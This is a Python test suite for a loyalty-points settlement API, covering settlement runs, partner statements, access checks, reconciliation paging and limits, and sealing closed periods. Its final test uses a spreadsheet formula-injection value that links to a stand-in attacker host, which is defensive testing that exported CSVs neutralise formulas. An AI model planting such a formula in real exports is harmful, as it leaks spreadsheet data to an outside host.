"""Settlement through HTTP: runSettlement, settlementPeriods (Relay), statements, matrix,
payment instructions, closeSettlementPeriod with its seal; partner views; files; reconciliation."""

from __future__ import annotations

import csv
import io
import threading
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from sqlalchemy import text

from core.clock import utcnow
from members import service as members
from settlement import exports
from tests.gateway.gql_helpers import (
    AUTHORIZE,
    CAPTURE,
    CREATE_CODE,
    EARN,
    gql,
    key,
    operator_token,
    register_and_login,
    rub,
    setup_partner,
)
from tests.gateway.oauth_helpers import starlette_app_of
from tests.settlement.helpers import earn as ledger_earn

PERIOD_FIELDS = """
  id periodStart periodEnd status contentHash operatorMargin { amount currency }
  statements { partner { id name } issuedPoints reversedPoints redeemedPoints returnedPoints
               issuanceCharge { amount } reimbursement { amount } net { amount currency } }
  matrix { issuer { id } redeemer { id } points value { amount } }
  paymentInstructions { partner { id } payer payee amount { amount } }
"""
RUN = (
    "mutation($input: RunSettlementInput!) { runSettlement(input: $input) { __typename "
    "... on RunSettlementSuccess { period {"
    + PERIOD_FIELDS
    + "} } ... on Error { code message } } }"
)
CLOSE = (
    "mutation($input: CloseSettlementPeriodInput!) { closeSettlementPeriod(input: $input) { __typename "
    "... on CloseSettlementPeriodSuccess { period { id status contentHash verification { sealed hashMatches ledgerMatches } } } "
    "... on Error { code message } } }"
)
PERIODS = (
    "query($first: Int!, $after: String) { settlementPeriods(first: $first, after: $after) { "
    "edges { cursor node {" + PERIOD_FIELDS + "} } pageInfo { hasNextPage endCursor } } }"
)
RECONCILE = """
mutation($input: ReconcileStatementInput!) { reconcileStatement(input: $input) { __typename
  ... on ReconcileStatementSuccess { report { matched mismatched missingInLedger missingInFile
        lines { status orderRef kind filePoints ledgerPoints } } }
  ... on Error { code message } } }
"""


async def test_settlement_through_the_api(client, engine):
    op = await operator_token(client, engine)
    a = await setup_partner(client, op, name="Settle A", base_rate="0.2")  # prices 1.20 / 0.95
    b = await setup_partner(client, op, name="Settle B")
    c = await setup_partner(client, op, name="Settle C")
    m = await register_and_login(client)
    start = utcnow()  # nothing of an earlier test can fall in [start, end)
    await gql(
        client,
        EARN,
        {
            "input": {
                "cardNumber": m.card,
                "amount": rub("1500.00"),
                "orderRef": "SA-1",
                "idempotencyKey": key(),
            }
        },
        a.token,
    )
    code = (await gql(client, CREATE_CODE, {"input": {}}, m.token))["createRedemptionCode"]["code"]
    hold = await gql(
        client,
        AUTHORIZE,
        {
            "input": {
                "redemptionCode": code,
                "points": 120,
                "purchaseAmount": rub("500"),
                "orderRef": "SB-1",
                "idempotencyKey": key(),
            }
        },
        b.token,
    )
    hold_id = hold["authorizeRedemption"]["hold"]["id"]
    await gql(
        client,
        CAPTURE,
        {"input": {"holdId": hold_id, "points": 100, "idempotencyKey": key()}},
        b.token,
    )
    end = utcnow()  # after every event above, and not in the future once the run starts
    rng = {"periodStart": start.isoformat(), "periodEnd": end.isoformat()}

    run = (await gql(client, RUN, {"input": rng}, op))["runSettlement"]
    assert run["__typename"] == "RunSettlementSuccess", run
    period = run["period"]
    by_partner = {s["partner"]["id"]: s for s in period["statements"]}
    sa, sb = by_partner[a.id], by_partner[b.id]
    assert (sa["issuedPoints"], sa["issuanceCharge"]["amount"], sa["net"]["amount"]) == (
        300,
        "360.00",
        "-360.00",
    )
    assert (sb["redeemedPoints"], sb["reimbursement"]["amount"], sb["net"]["amount"]) == (
        100,
        "95.00",
        "95.00",
    )
    assert period["operatorMargin"]["amount"] == "265.00"  # -(sum of nets)
    assert {
        (x["issuer"]["id"], x["redeemer"]["id"], x["points"], x["value"]["amount"])
        for x in period["matrix"]
    } == {(a.id, b.id, 100, "95.00")}
    pay = {
        p["partner"]["id"]: (p["payer"], p["payee"], p["amount"]["amount"])
        for p in period["paymentInstructions"]
    }
    assert pay[a.id] == ("partner", "operator", "360.00") and pay[b.id] == (
        "operator",
        "partner",
        "95.00",
    )
    # Running the same range again is idempotent.
    again = (await gql(client, RUN, {"input": rng}, op))["runSettlement"]["period"]
    assert again["id"] == period["id"] and again["statements"] == period["statements"]

    # Partner views: B sees its own statement and the cell in its column; C sees nothing of theirs.
    page = (await gql(client, PERIODS, {"first": 50}, b.token))["settlementPeriods"]
    mine = next(e["node"] for e in page["edges"] if e["node"]["id"] == period["id"])
    assert [s["partner"]["id"] for s in mine["statements"]] == [b.id]
    assert [(x["issuer"]["id"], x["redeemer"]["id"]) for x in mine["matrix"]] == [(a.id, b.id)]
    assert mine["operatorMargin"] is None
    theirs = next(
        e["node"]
        for e in (await gql(client, PERIODS, {"first": 50}, c.token))["settlementPeriods"]["edges"]
        if e["node"]["id"] == period["id"]
    )
    assert theirs["statements"] == [] and theirs["matrix"] == []  # C had no activity
    earn_only = await setup_partner(client, op, name="Settle D", scopes=["points:earn"])
    for token in (m.token, earn_only.token):  # a member; a partner lacking settlement:read
        r = await client.post(
            "/graphql",
            json={"query": PERIODS, "variables": {"first": 5}},
            headers={"Authorization": f"Bearer {token}"},
        )
        assert r.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"

    # Files: A's statement as CSV and PDF for A and the operator; B is refused A's.
    csv_url = f"/settlement/periods/{period['id']}/statements/{a.id}.csv"
    r = await client.get(csv_url, headers={"Authorization": f"Bearer {a.token}"})
    assert r.status_code == 200 and "SA-1" in r.text
    r = await client.get(csv_url.replace(".csv", ".pdf"), headers={"Authorization": f"Bearer {op}"})
    assert r.status_code == 200 and r.content.startswith(b"%PDF")
    assert (
        await client.get(csv_url, headers={"Authorization": f"Bearer {b.token}"})
    ).status_code == 404
    assert (await client.get(csv_url)).status_code == 401
    r = await client.get("/settlement/liability.csv", headers={"Authorization": f"Bearer {op}"})
    assert r.status_code == 200 and "Settle A" in r.text
    assert (
        await client.get(
            "/settlement/liability.csv", headers={"Authorization": f"Bearer {a.token}"}
        )
    ).status_code == 403

    # Reconciliation: B's own file, with one planted difference and one line the ledger lacks.
    csv_text = "order_ref,kind,points,amount\r\nSB-1,capture,90,95.00\r\nSB-9,capture,5,4.75\r\n"
    rep = await gql(
        client, RECONCILE, {"input": {"periodId": period["id"], "csv": csv_text}}, b.token
    )
    report = rep["reconcileStatement"]["report"]
    assert (report["mismatched"], report["missingInLedger"], report["matched"]) == (1, 1, 0)
    bad = await gql(
        client, RECONCILE, {"input": {"periodId": period["id"], "csv": "nope\n1,2"}}, b.token
    )
    assert bad["reconcileStatement"]["code"] == "VALIDATION"
    r = await client.post(
        f"/settlement/periods/{period['id']}/reconciliations",
        content=csv_text.encode(),
        headers={"Authorization": f"Bearer {b.token}", "Content-Type": "text/csv"},
    )
    assert r.status_code == 201 and r.json()["mismatched"] == 1

    # Close: sealed, verifiable; a second close changes nothing; closing a future period is refused.
    closed = (await gql(client, CLOSE, {"input": {"periodId": period["id"]}}, op))[
        "closeSettlementPeriod"
    ]
    assert closed["period"]["status"] == "closed" and closed["period"]["contentHash"]
    assert closed["period"]["verification"] == {
        "sealed": True,
        "hashMatches": True,
        "ledgerMatches": True,
    }
    twice = (await gql(client, CLOSE, {"input": {"periodId": period["id"]}}, op))[
        "closeSettlementPeriod"
    ]
    assert twice["period"]["contentHash"] == closed["period"]["contentHash"]
    assert (await gql(client, CLOSE, {"input": {"periodId": period["id"]}}, a.token))[
        "closeSettlementPeriod"
    ]["code"] == "FORBIDDEN"
    future = datetime.now(UTC) + timedelta(days=1)
    res = await gql(
        client,
        RUN,
        {"input": {"periodStart": end.isoformat(), "periodEnd": future.isoformat()}},
        op,
    )
    current = res["runSettlement"]["period"]  # the present period can be run, not closed
    assert current["status"] == "open"
    refused = (await gql(client, CLOSE, {"input": {"periodId": current["id"]}}, op))[
        "closeSettlementPeriod"
    ]
    assert refused["code"] == "VALIDATION" and "future" in refused["message"]


async def _past_period(client, engine, *, name: str, month: datetime, refs: list[str]):
    """A partner (through the API) with events of a past month (through the ledger: the API
    earns now) and that month's period run through the API; each test its own month."""
    op = await operator_token(client, engine)
    p = await setup_partner(client, op, name=name)
    async with engine.begin() as conn:
        m = await members.create(conn, email=f"{key()}@example.com", name="M")
    for i, ref in enumerate(refs):
        at = month + timedelta(days=1)  # valid long enough to count in today's liability
        await ledger_earn(engine, m.id, uuid.UUID(p.id), 10 + i, at, ref=ref, validity_months=600)
    end = (month + timedelta(days=32)).replace(day=1)
    rng = {"periodStart": month.isoformat(), "periodEnd": end.isoformat()}
    run = (await gql(client, RUN, {"input": rng}, op))["runSettlement"]
    assert run["__typename"] == "RunSettlementSuccess", run
    return op, p, run["period"]["id"]


LINE_PAGE = """query($id: ID!, $after: String) { reconciliation(id: $id) {
  matched linePage(first: 2, after: $after, status: ["matched", "mismatched"]) {
    edges { cursor node { seq status orderRef } } pageInfo { hasNextPage endCursor } } } }"""
ALL_LINES = "query($id: ID!) { reconciliation(id: $id) { lines { seq } } }"


async def test_reconciliation_reports_are_paged_and_uploads_bounded(client, engine, app) -> None:
    refs = [f"R-{i}" for i in range(3)]
    op, p, period = await _past_period(
        client, engine, name="Recon paging", month=datetime(2021, 2, 1, tzinfo=UTC), refs=refs
    )
    other = await setup_partner(client, op, name="Recon other")
    # R-0 matches (10 points x 1.20), R-1 differs, R-2 is missing in the file; 5,000 lines more.
    body = "order_ref,kind,points,amount\r\nR-0,earn,10,12.00\r\nR-1,earn,11,0.01\r\n" + "".join(
        f"X-{i},earn,1,1.20\r\n" for i in range(5000)
    )
    url = f"/settlement/periods/{period}/reconciliations"
    auth = {"Authorization": f"Bearer {p.token}"}
    r = await client.post(url, content=body.encode(), headers=auth)
    assert r.status_code == 201, r.text
    rep = r.json()
    counts = (rep["matched"], rep["mismatched"], rep["missing_in_ledger"], rep["missing_in_file"])
    assert counts == (1, 1, 5000, 1) and rep["file_lines"] == 5002
    # The answer is the counts and the first page, not the whole report.
    assert [x["seq"] for x in rep["lines"]] == list(range(1, 101)) and rep["next_after"] == 100
    assert len(r.content) < 32_000
    # Paging through the report gives every line exactly once.
    seqs, refs_seen, nxt = (
        [x["seq"] for x in rep["lines"]],
        [],
        f"{url}/{rep['id']}?limit=1000&after=100",
    )
    while nxt:
        page = await client.get(nxt, headers=auth)
        assert page.status_code == 200, page.text
        assert len(page.json()["lines"]) <= 1000
        seqs += [x["seq"] for x in page.json()["lines"]]
        refs_seen += [x["order_ref"] for x in page.json()["lines"]]
        nxt = page.json()["next"]
    assert seqs == list(range(1, 5004)) and len(set(refs_seen)) == len(refs_seen)
    first = await client.get(f"{url}/{rep['id']}?status=missing_in_file,mismatched", headers=auth)
    assert [(x["order_ref"], x["status"]) for x in first.json()["lines"]] == [
        ("R-1", "mismatched"),
        ("R-2", "missing_in_file"),
    ]
    assert first.json()["next"] is None
    for bad in ("limit=1001", "limit=0", "after=abc", "after=99999999999999999999", "status=x"):
        r = await client.get(f"{url}/{rep['id']}?{bad}", headers=auth)
        assert (r.status_code, r.json()["error"]["code"]) == (422, "VALIDATION"), bad
    for path, token in (
        (f"{url}/{rep['id']}", other.token),  # another partner's report
        (f"/settlement/periods/{uuid.uuid4()}/reconciliations/{rep['id']}", p.token),
    ):
        r = await client.get(path, headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 404, path
    # GraphQL pages too; `lines` (whole) is refused for a report this large.
    page = (await gql(client, LINE_PAGE, {"id": rep["id"]}, op))["reconciliation"]
    assert [e["node"]["orderRef"] for e in page["linePage"]["edges"]] == ["R-0", "R-1"]
    after = page["linePage"]["pageInfo"]["endCursor"]
    page = (await gql(client, LINE_PAGE, {"id": rep["id"], "after": after}, op))["reconciliation"]
    assert page["linePage"]["edges"] == [] and not page["linePage"]["pageInfo"]["hasNextPage"]
    r = await client.post(
        "/graphql",
        json={"query": ALL_LINES, "variables": {"id": rep["id"]}},
        headers={"Authorization": f"Bearer {op}"},
    )
    assert r.json()["errors"][0]["extensions"]["code"] == "VALIDATION"

    # The bound: with RECONCILIATION_MAX_PER_PERIOD = 2, a third upload is refused and stores
    # nothing; another partner of the period keeps its own count.
    sapp = await starlette_app_of(app)
    real = sapp.state.settings
    sapp.state.settings = real.model_copy(update={"reconciliation_max_per_period": 2})
    try:
        await _the_bound(client, engine, url, period, p, other)
    finally:
        sapp.state.settings = real


async def _the_bound(client, engine, url, period, p, other) -> None:
    auth = {"Authorization": f"Bearer {p.token}"}
    small = b"order_ref,kind,points,amount\r\nR-0,earn,10,12.00\r\n"
    assert (await client.post(url, content=small, headers=auth)).status_code == 201
    async with engine.connect() as conn:
        stored = (
            await conn.execute(text("SELECT count(*) FROM settlement_reconciliation_lines"))
        ).scalar_one()
    r = await client.post(url, content=small, headers=auth)
    assert r.status_code == 409, r.text
    assert r.json()["error"]["code"] == "LIMIT_EXCEEDED" and r.json()["error"]["limit"] == 2
    async with engine.connect() as conn:
        assert (
            await conn.execute(text("SELECT count(*) FROM settlement_reconciliation_lines"))
        ).scalar_one() == stored
        assert (
            await conn.execute(
                text(
                    "SELECT count(*) FROM settlement_reconciliations "
                    "WHERE period_id = :period AND partner_id = :partner"
                ),
                {"period": period, "partner": p.id},
            )
        ).scalar_one() == 2
    refused = await gql(  # GraphQL uploads count against the same bound
        client, RECONCILE, {"input": {"periodId": period, "csv": small.decode()}}, p.token
    )
    assert refused["reconcileStatement"]["__typename"] == "LimitExceededError"
    r = await client.post(url, content=small, headers={"Authorization": f"Bearer {other.token}"})
    assert r.status_code == 201


async def test_statement_files_render_off_the_loop_and_neutralise_formulas(
    client, engine, monkeypatch
) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1)'
    op, p, period = await _past_period(
        client, engine, name="@SUM(1+1)", month=datetime(2021, 3, 1, tzinfo=UTC), refs=[hyperlink]
    )
    loop_thread = threading.get_ident()
    threads: list[int] = []

    def spy(fn):
        def wrapper(*args, **kwargs):
            threads.append(threading.get_ident())
            return fn(*args, **kwargs)

        return wrapper

    monkeypatch.setattr(exports, "render_statement_pdf", spy(exports.render_statement_pdf))
    monkeypatch.setattr(exports, "write_csv", spy(exports.write_csv))
    base = f"/settlement/periods/{period}/statements/{p.id}"
    auth = {"Authorization": f"Bearer {op}"}
    pdf = await client.get(f"{base}.pdf", headers=auth)
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    statement = await client.get(f"{base}.csv", headers=auth)
    liability = await client.get("/settlement/liability.csv", headers=auth)
    assert len(threads) == 3 and loop_thread not in threads
    rows = list(csv.DictReader(io.StringIO(statement.text, newline="")))
    assert [r["order_ref"] for r in rows if r["line_type"] == "event"] == ["'" + hyperlink]
    net = next(r for r in rows if r["kind"] == "net")["amount"]
    assert Decimal(net) == Decimal("-12.00")  # a negative number stays a number
    issuers = {r["issuer"] for r in csv.DictReader(io.StringIO(liability.text, newline=""))}
    assert "'@SUM(1+1)" in issuers and "@SUM(1+1)" not in issuers
